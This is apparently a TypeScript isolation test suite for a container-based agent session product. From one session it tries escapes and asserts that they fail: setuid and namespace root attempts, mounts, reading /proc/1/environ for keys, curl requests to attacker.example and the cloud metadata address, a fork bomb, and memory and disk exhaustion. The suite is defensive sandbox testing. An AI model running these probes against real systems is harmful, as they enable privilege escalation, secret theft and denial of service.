import { execFile } from "node:child_process";
import { mkdtemp, writeFile } from "node:fs/promises";
import { connect, createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { insidePlace } from "@remote-claude/protocol";
import { afterAll, beforeAll, expect, it } from "vitest";
import { Client } from "./testing/client.ts";
import { describeUnless } from "./testing/machine.ts";
import { Product } from "./testing/product.ts";
import { makeProject, type Project } from "./testing/project.ts";
import { buildSessionImage, engineUnavailable, hostAddress } from "./testing/stack.ts";
import { itLetsToolsOut, Outside } from "./testing/ways-out.ts";

const run = promisify(execFile);
const unavailable = await engineUnavailable();

/** Small, so that whoever exhausts it does so soon. */
const template = `templates:
  - name: small
    limits:
      memoryMb: { default: 512, max: 512 }
      cpus: { default: 1, max: 1 }
      diskMb: { default: 256, max: 256 }
      pids: { default: 256, max: 256 }
`;

const outside = new Outside();
let project: Project;
let product: Product;
let client: Client;
let attacker: string;
let neighbour: string;
let neighbourPlace: string;
/** Stands for any service of this machine, on every address of it. */
let bystander: Server;
let bystanderPort: number;

beforeAll(async () => {
  if (unavailable !== null) return;
  await buildSessionImage();
  project = await makeProject();
  await outside.open(project);
  product = await Product.start({
    allowedHosts: outside.hosts,
    environment: {
      ...outside.environment,
      SESSION_RUNTIME: "docker",
      TEMPLATES_FILE: await writeTemplates(),
    },
  });
  client = await Client.signIn(product);
  [attacker, neighbour] = (
    await Promise.all(
      ["Attacker", "Neighbour"].map((name) => client.createSession({ name, template: "small" })),
    )
  ).map(({ id }) => id) as [string, string];
  const row = await (await product.database()).place.findFirstOrThrow({ where: { sessionId: neighbour } });
  neighbourPlace = row.id;
  bystander = createServer((socket) => socket.end("reached"));
  await new Promise<void>((resolve) => bystander.listen(0, "0.0.0.0", resolve));
  const address = bystander.address();
  bystanderPort = typeof address === "object" && address !== null ? address.port : 0;
});

afterAll(async () => {
  bystander?.close();
  if (client !== undefined)
    for (const id of [attacker, neighbour]) await client.call("DELETE", `/api/sessions/${id}`).catch(() => 0);
  await product?.stop();
  if (unavailable === null) await Promise.all([outside.close(), project?.remove()]);
});

async function writeTemplates(): Promise<string> {
  const file = join(await mkdtemp(join(tmpdir(), "rc-escape-")), "templates.yaml");
  await writeFile(file, template);
  return file;
}

/** As a program in the session: what it said on either way out. */
async function attack(command: string): Promise<string> {
  const { stdout, stderr } = await client.execute(attacker, command);
  return `${stdout}${stderr}`.trim();
}

/** Whether somebody else's session works as if nothing were. */
async function neighbourWorks(): Promise<void> {
  const { stdout, exitCode } = await client.execute(neighbour, "echo at work > file && cat file");
  expect({ stdout, exitCode }).toEqual({ stdout: "at work\n", exitCode: 0 });
}

/** Dials from inside, without the proxy: "reached", or the error's code. */
const dial = (host: string, port: number) =>
  attack(
    `node -e 'const s=require("net").connect({host:"${host}",port:${port}});s.on("connect",()=>{console.log("reached");process.exit()});s.on("error",(e)=>{console.log(e.code);process.exit()});setTimeout(()=>{console.log("silence");process.exit()},3000)'`,
  );

function reachedFromHere(host: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port: bystanderPort });
    socket.once("data", (data) => resolve(String(data)));
    socket.once("error", reject);
  });
}

describeUnless(unavailable, "out of a container, by egress alone,", () => {
  itLetsToolsOut(outside, () => ({ client, product, sessionId: neighbour }));
});

describeUnless(unavailable, "out of a container, nobody", () => {
  it("gains a capability, or is let off no-new-privileges and seccomp", async () => {
    const status = await attack("cat /proc/self/status");
    for (const set of ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"])
      expect(status).toMatch(new RegExp(`${set}:\\s+0000000000000000`));
    expect(status).toMatch(/NoNewPrivs:\s+1/);
    expect(status).toMatch(/Seccomp:\s+2/);
    expect(status).toMatch(/Uid:\s+1000\s+1000\s+1000\s+1000/);
  });

  it("becomes root: by a program with the bit, by sudo or su, or as root of a namespace of its own", async () => {
    expect(await attack("find / -xdev -perm /6000 -type f 2>/dev/null")).toBe("");
    expect(await attack("sudo -n id; su -c id; unshare -Ur id; unshare -m id")).not.toMatch(/uid=0/);
    const own = "cp /bin/bash /workspace/root-bash && chmod u+s,g+s /workspace/root-bash";
    expect(await attack(`${own}; /workspace/root-bash -p -c id`)).toMatch(/uid=1000/);
  });

  it("writes outside of its own folders, or mounts anything there", async () => {
    for (const folder of ["/", "/etc", "/usr/bin", "/opt/remote-claude/agent", "/run", insidePlace.in]) {
      expect(await attack(`touch ${folder}/x && echo written`), folder).not.toContain("written");
    }
    const mounts = "mount -t tmpfs none /mnt; mount --bind / /workspace; mount -o remount,rw /";
    expect(await attack(`${mounts}; touch /etc/x && echo written`)).not.toContain("written");
    expect(await attack("mknod /workspace/disk b 7 0 && echo made; ls /dev")).not.toMatch(/made|loop|sd|vd/);
  });

  it("sees processes, sockets or files of anybody else", async () => {
    const commands = await attack("cat /proc/[0-9]*/cmdline | tr '\\0' ' '");
    expect(commands).not.toMatch(/dockerd|postgres|session-manager|egress\/dist/);
    expect(await attack("find / -name docker.sock -o -name '*.sock' 2>/dev/null")).not.toContain(
      "docker.sock",
    );
    expect(
      await attack(`find / -name '*${neighbourPlace}*' 2>/dev/null; cat /proc/self/mountinfo`),
    ).not.toContain(neighbourPlace);
    expect(await attack(`ls ${insidePlace.in} ${insidePlace.out} ${insidePlace.in}/..`)).not.toContain(
      neighbourPlace,
    );
    expect(await attack("node -e 'process.kill(1, 0); process.kill(1, 9)'; cat /proc/1/environ")).not.toMatch(
      /SECRET|KEY=|sk-ant/,
    );
  });

  it("takes the place of the socket that leads out, to listen to its own session's keys", async () => {
    const replaced = `rm -f ${insidePlace.in}/egress.sock || mv ${insidePlace.in}/egress.sock /tmp/; ls ${insidePlace.in}`;
    expect(await attack(replaced)).toContain("egress.sock");
  });

  it("has a network: no address answers, no name is found", async () => {
    expect(await attack("ls /sys/class/net")).toBe("lo");
    // Whom nothing holds back reaches it: silence inside is the wall's doing.
    expect(await reachedFromHere(await hostAddress())).toBe("reached");
    for (const host of [await hostAddress(), "169.254.169.254", "1.1.1.1", "10.0.0.1"])
      expect(await dial(host, bystanderPort), host).toMatch(/ENETUNREACH|EHOSTUNREACH/);
    const port = Number(new URL(product.url).port);
    expect(await dial("127.0.0.1", port)).toBe("ECONNREFUSED");
    const { API_PORT, EGRESS_PORT } = {
      ...(await product.environmentOf("api")),
      ...(await product.environmentOf("egress")),
    };
    for (const service of [API_PORT, EGRESS_PORT])
      expect(await dial("127.0.0.1", Number(service))).toBe("ECONNREFUSED");
    expect(await attack("getent hosts secret-data.attacker.example || echo none")).toBe("none");
  });

  it("is led to this machine, its neighbours or an unlisted host by the proxy", async () => {
    const targets = [
      `http://127.0.0.2:${bystanderPort}/`,
      `http://${await hostAddress()}:${bystanderPort}/`,
      "http://169.254.169.254/latest/meta-data/",
      `http://localhost:${bystanderPort}/`,
      "http://[::ffff:127.0.0.1]/",
      "https://attacker.example/",
    ];
    for (const target of targets) {
      const said = await attack(
        `curl -sS -m 10 --noproxy '' -x http://127.0.0.1:${insidePlace.egressPort} -o /dev/null -w '%{http_code} %{http_connect}' '${target}'`,
      );
      expect(said, target).toMatch(/403/);
      expect(said, target).not.toContain("200");
    }
  });

  it("finds a secret in what the engine shows of a session", async () => {
    const { stdout } = await run("docker", ["ps", "--quiet", "--filter", "label=remote-claude.role=session"]);
    const shown = (await run("docker", ["inspect", ...stdout.trim().split("\n")])).stdout;
    for (const [name, secret] of Object.entries(await product.secrets()))
      expect(shown.includes(secret), name).toBe(false);
    const history = (await run("docker", ["history", "--no-trunc", "remote-claude/session"])).stdout;
    expect(history).not.toMatch(/sk-ant|password|_authToken/i);
  });
});

describeUnless(unavailable, "whoever exhausts a session, exhausts that session alone", () => {
  it("by processes", async () => {
    // Forks until it may not, as a bomb does; bash would wait and try again.
    const bomb = `python3 -c '
import os, time
made = 0
try:
    while made < 5000:
        if os.fork() == 0: time.sleep(60); os._exit(0)
        made += 1
except OSError as error: print(error.strerror, made)
'`;
    const [said] = await Promise.all([attack(`${bomb} & wait $!`), neighbourWorks()]);
    expect(said).toMatch(/^Resource temporarily unavailable \d{2,3}$/);
    await attack("pkill python3; true");
    expect(await attack("echo back")).toContain("back");
  });

  it("by memory", async () => {
    const hog = "node -e 'const all=[];for(;;)all.push(Buffer.alloc(16<<20,1))'; echo ended $?";
    const [said] = await Promise.all([attack(hog), neighbourWorks()]);
    expect(said).not.toMatch(/ended 0$/);
    await client.untilState(attacker, "running");
    expect(await attack("echo back")).toContain("back");
  });

  it("by what it writes, be it one file, very many, or one that only says it is large", async () => {
    expect(await attack("dd if=/dev/zero of=/workspace/full bs=1M")).toContain("No space left on device");
    await neighbourWorks();
    await attack("rm -f /workspace/full");
    const many = await attack(
      'mkdir -p /workspace/many && cd /workspace/many && node -e \'const fs=require("fs");let n=0;try{for(;n<100000;n++)fs.writeFileSync(String(n),"")}catch(e){console.log(e.code)}console.log(n)\'; rm -rf /workspace/many',
    );
    expect(many).toMatch(/^(?:ENOSPC\n\d+|100000)$/);
    expect(await attack("truncate -s 10G /workspace/sparse && du -m /workspace/sparse | cut -f1")).toMatch(
      /^0$|^1$/,
    );
    await attack("rm -f /workspace/sparse");
    await neighbourWorks();
  });

  it("by its temporary folders, which count as its memory", async () => {
    const sizes = await attack("df -m --output=size /tmp /dev/shm | tail -n +2");
    expect(sizes.split(/\s+/).filter(Boolean).map(Number)).toEqual([128, 64]);
    const fill = (folder: string) =>
      attack(`dd if=/dev/zero of=${folder}/full bs=1M count=2000; rm -f ${folder}/full`);
    for (const folder of ["/tmp", "/dev/shm"])
      expect(await fill(folder)).toContain("No space left on device");
    expect(await attack("echo back")).toBe("back");
    await neighbourWorks();
  });

  it("by its log, which the engine keeps short", async () => {
    const { stdout } = await run("docker", [
      ...["ps", "--filter", `label=remote-claude.place=${neighbourPlace}`, "--format", "{{.ID}}"],
    ]);
    const log = (
      await run("docker", ["inspect", "--format", "{{json .HostConfig.LogConfig}}", stdout.trim()])
    ).stdout;
    expect(JSON.parse(log)).toMatchObject({ Config: { "max-size": "2m", "max-file": "2" } });
  });
});
